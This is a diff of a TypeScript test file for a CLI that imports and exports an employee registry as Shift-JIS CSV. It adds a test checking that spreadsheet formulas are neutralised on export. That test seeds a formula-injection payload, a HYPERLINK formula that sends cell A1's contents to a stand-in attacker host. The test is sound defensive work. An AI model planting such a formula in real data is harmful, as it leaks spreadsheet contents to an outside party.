@@ -1,10 +1,12 @@
-import { mkdtempSync, readFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
+import iconv from 'iconv-lite';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createTestTenant } from '../test/factories.js';
+import { tenantWithMember } from '../test/factories.js';
 import { startTestServer, type TestServer } from '../test/harness.js';
-import { registryExportCommand, registryImportCommand } from './registry-commands.js';
+import { runCommandLine } from './command-line.js';
+import { enishiCommands } from './commands.js';
 
 let server: TestServer;
 beforeAll(async () => {
@@ -14,11 +16,24 @@ afterAll(() => server.stop());
 
 const sample = path.join(import.meta.dirname, '../test/fixtures/leavers-sjis.csv');
 
+/** One command line against the test server's database, as `npm run enishi -- …` would run it. */
+async function enishi(...argv: string[]) {
+  let stdout = '';
+  let stderr = '';
+  const exitCode = await runCommandLine(argv, enishiCommands, {
+    output: { out: (text) => (stdout += text), err: (text) => (stderr += text) },
+    open: async () => ({ deps: server.deps, close: async () => {} }),
+  });
+  return { exitCode, stdout, stderr, json: () => JSON.parse(stdout) as Record<string, unknown> };
+}
+
+const scratch = () => mkdtempSync(path.join(tmpdir(), 'enishi-'));
+
 describe('registry commands', () => {
   it('dry-runs by default, applies with --apply, and exits 1 while rows are rejected', async () => {
-    const { slug } = await createTestTenant(server);
-    const dry = await registryImportCommand(server.deps, ['--tenant', slug, sample]);
-    const summary = dry.output as {
+    const { slug } = await tenantWithMember(server, 'owner');
+    const dry = await enishi('registry', 'import', '--tenant', slug, sample);
+    const summary = dry.json() as {
       counts: { new: number; rejected: number };
       applied: boolean;
       rejected: { row: number; message: string }[];
@@ -30,21 +45,16 @@ describe('registry commands', () => {
       'メールアドレスの形式が正しくありません。',
     );
 
-    const applied = await registryImportCommand(server.deps, ['--tenant', slug, '--apply', sample]);
-    expect((applied.output as { applied: boolean; counts: { new: number } }).applied).toBe(true);
-    expect((applied.output as { counts: { new: number } }).counts.new).toBe(summary.counts.new);
+    const applied = await enishi('registry', 'import', '--tenant', slug, '--apply', sample);
+    expect(applied.json()).toMatchObject({ applied: true, counts: { new: summary.counts.new } });
 
-    const again = await registryImportCommand(server.deps, ['--tenant', slug, '--apply', sample]);
-    expect(
-      (again.output as { counts: { new: number; updated: number; unchanged: number } }).counts,
-    ).toMatchObject({
-      new: 0,
-      updated: 0,
-      unchanged: summary.counts.new,
-    });
+    const again = await enishi('registry', 'import', '--tenant', slug, '--apply', sample);
+    expect(again.json().counts).toMatchObject({ new: 0, updated: 0, unchanged: summary.counts.new });
 
-    const out = path.join(mkdtempSync(path.join(tmpdir(), 'enishi-')), 'out.csv');
-    const exported = await registryExportCommand(server.deps, [
+    const out = path.join(scratch(), 'out.csv');
+    const exported = await enishi(
+      'registry',
+      'export',
       '--tenant',
       slug,
       '--encoding',
@@ -52,18 +62,61 @@ describe('registry commands', () => {
       '--columns',
       'employeeNumber,fullName',
       out,
-    ]);
+    );
     expect(exported.exitCode).toBe(0);
-    expect((exported.output as { rows: number }).rows).toBe(summary.counts.new);
+    expect(exported.json()).toMatchObject({ file: out, rows: summary.counts.new, encoding: 'cp932' });
     expect(readFileSync(out).length).toBeGreaterThan(1000);
   });
 
+  it('guards formulas and lists letters CP932 cannot hold in the summary it prints', async () => {
+    const { slug, client } = await tenantWithMember(server, 'owner');
+    await client.post(`/api/v1/t/${slug}/registry/records`, {
+      employeeNumber: 'X1',
+      familyName: '=HYPERLINK("https://evil.example/?"&A1,"詳細")',
+      givenName: '𠮷子',
+      phone: '+81-3-1234-5678',
+      emails: [],
+    });
+    const out = path.join(scratch(), 'out.csv');
+    const exported = await enishi(
+      'registry',
+      'export',
+      '--tenant',
+      slug,
+      '--encoding',
+      'cp932',
+      '--columns',
+      'employeeNumber,fullName,phone',
+      '--lang',
+      'en',
+      out,
+    );
+    expect(exported.exitCode).toBe(0);
+    expect(iconv.decode(readFileSync(out), 'cp932')).toBe(
+      'Employee number,Name,Phone\r\nX1,"\'=HYPERLINK(""https://evil.example/?""&A1,""詳細"") 〓子",\'+81312345678\r\n',
+    );
+    expect(exported.json()).toMatchObject({
+      rows: 1,
+      formulaCellsGuarded: 2,
+      unencodableLetters: ['𠮷'],
+      unencodable: [
+        {
+          row: 1,
+          ref: 'X1 =HYPERLINK("https://evil.example/?"&A1,"詳細") 𠮷子',
+          column: 'Name',
+          characters: '𠮷',
+        },
+      ],
+    });
+    expect((exported.json().notices as string[]).join(' ')).toContain("written with a leading '");
+  });
+
   it('reports an unreadable file with exit code 2 and writes nothing', async () => {
-    const { slug } = await createTestTenant(server);
-    const dir = mkdtempSync(path.join(tmpdir(), 'enishi-'));
-    const bad = path.join(dir, 'bad.csv');
-    await import('node:fs/promises').then((fs) => fs.writeFile(bad, '社員番号,氏名\n'));
-    const result = await registryImportCommand(server.deps, ['--tenant', slug, bad]);
-    expect(result).toMatchObject({ exitCode: 2, output: { error: 'import_file_empty' } });
+    const { slug } = await tenantWithMember(server, 'owner');
+    const bad = path.join(scratch(), 'bad.csv');
+    writeFileSync(bad, '社員番号,氏名\n');
+    const result = await enishi('registry', 'import', '--tenant', slug, bad);
+    expect(result.exitCode).toBe(2);
+    expect(result.json()).toMatchObject({ error: 'import_file_empty' });
   });
 });
